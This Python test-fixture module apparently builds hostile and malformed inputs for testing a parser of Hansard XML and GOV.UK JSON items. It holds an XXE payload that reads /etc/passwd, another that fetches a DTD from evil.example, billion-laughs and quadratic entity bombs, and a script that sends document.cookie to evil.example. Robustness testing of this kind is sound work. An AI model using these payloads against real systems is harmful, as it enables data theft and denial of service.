"""Hostile and broken payloads, each built from (or in the shape of) a real format."""

from __future__ import annotations

import json
import re

BILLION_LAUGHS = (b'<?xml version="1.0"?>\n<!DOCTYPE publicwhip [\n <!ENTITY lol "lol">\n'
                  + b"".join(b' <!ENTITY lol%d "%s">\n' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                             for i in range(1, 10))
                  + b']>\n<publicwhip><speech id="x"><p pid="1">&lol9;</p></speech></publicwhip>\n')
XXE = (b'<?xml version="1.0"?>\n<!DOCTYPE publicwhip [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>\n'
       b'<publicwhip><speech id="x" speakername="A"><p pid="1">&secret;</p></speech></publicwhip>\n')
XXE_PARAMETER = (b'<?xml version="1.0"?>\n<!DOCTYPE publicwhip [ <!ENTITY % remote SYSTEM "http://evil.example/x.dtd">'
                 b' %remote; ]>\n<publicwhip/>\n')
QUADRATIC = (b'<?xml version="1.0"?>\n<!DOCTYPE publicwhip [ <!ENTITY a "' + b"A" * 50_000 + b'"> ]>\n'
             b'<publicwhip><speech id="x"><p pid="1">' + b"&a;" * 5_000 + b"</p></speech></publicwhip>\n")
ENTITY_FLOOD = (b'<?xml version="1.0"?>\n<!DOCTYPE publicwhip [\n'
                + b"".join(b' <!ENTITY e%d "x">\n' % i for i in range(500)) + b"]>\n<publicwhip/>\n")
HTML_ERROR_PAGE = (b"<html><head><title>503 Service Temporarily Unavailable</title></head>"
                   b"<body><h1>Service Temporarily Unavailable</h1></body></html>")
HOSTILE_TITLE = "Speech\x00 with \x1b[31mred\x1b[0m\x07 and a lone \ud800 surrogate [bold]markup[/bold]"


def malformed_xml(data: bytes) -> bytes:
    """Mismatched closing tags: well-formed up to a point, then not."""
    return data.replace(b"</speech>", b"</speach>", 1)


def cp1252_declared_utf8(data: bytes) -> bytes:
    """The sitting with accents and curly quotes, declared UTF-8 but encoded Windows-1252."""
    text = data.decode("utf-8").replace('<p pid="', '<p data-x="1" pid="', 1)
    text = re.sub(r'(<p data-x="1" pid="[^"]*">)', "\\1Caf\u00e9 society and \u2018quoted\u2019 words \u2014 ", text, count=1)
    return ('<?xml version="1.0" encoding="utf-8"?>\n' + text).encode("cp1252")


def stray_bom(data: bytes) -> bytes:
    return b"\n\xef\xbb\xbf" + data


def long_passage(data: bytes, chars: int = 300_000) -> bytes:
    """One paragraph made absurdly long: many sentences, then one endless word."""
    sentence = b"The department reviewed the advice it gave to ministers again. "
    filler = sentence * (chars // len(sentence) // 2) + b"x" * (chars // 2)
    return re.sub(rb'(<p pid="[^"]*">)', lambda m: m.group(1) + filler + b" ", data, count=1)


def _govuk(data: bytes, change) -> bytes:
    item = json.loads(data)
    change(item)
    return json.dumps(item, ensure_ascii=True).encode()


def govuk_script_and_style(data: bytes) -> bytes:
    def change(item):
        body = item["details"]["body"]
        item["details"]["body"] = ("<script>document.location='https://evil.example/?c='+document.cookie</script>"
                                   "<style>p { display: none }</style>"
                                   + body.replace("<p>", "<p><script>alert('owned')</script>"
                                                          "<style>.x{}</style>", 1))
    return _govuk(data, change)


def govuk_control_characters(data: bytes) -> bytes:
    def change(item):
        item["title"] = HOSTILE_TITLE
        item["details"]["body"] = item["details"]["body"].replace("<p>", "<p>\x00Null\x07bell \ud800 ", 1)
    return _govuk(data, change)


def govuk_same_text_as(paragraphs: list[str]):
    """A GOV.UK item whose body is exactly these paragraphs (the same speech as in Hansard)."""
    import html

    def transform(data: bytes) -> bytes:
        def change(item):
            item["details"]["body"] = "".join(f"<p>{html.escape(p, quote=False)}</p>\n" for p in paragraphs)
        return _govuk(data, change)
    return transform


def govuk_cp1252(data: bytes) -> bytes:
    item = json.loads(data)
    item["details"]["body"] = item["details"]["body"].replace("<p>", "<p>Caf\u00e9 \u2018quoted\u2019 ", 1)
    return json.dumps(item, ensure_ascii=False).encode("cp1252", errors="replace")


def malformed_json(data: bytes) -> bytes:
    return data[: len(data) // 2]


def bom(data: bytes) -> bytes:
    return b"\xef\xbb\xbf" + data
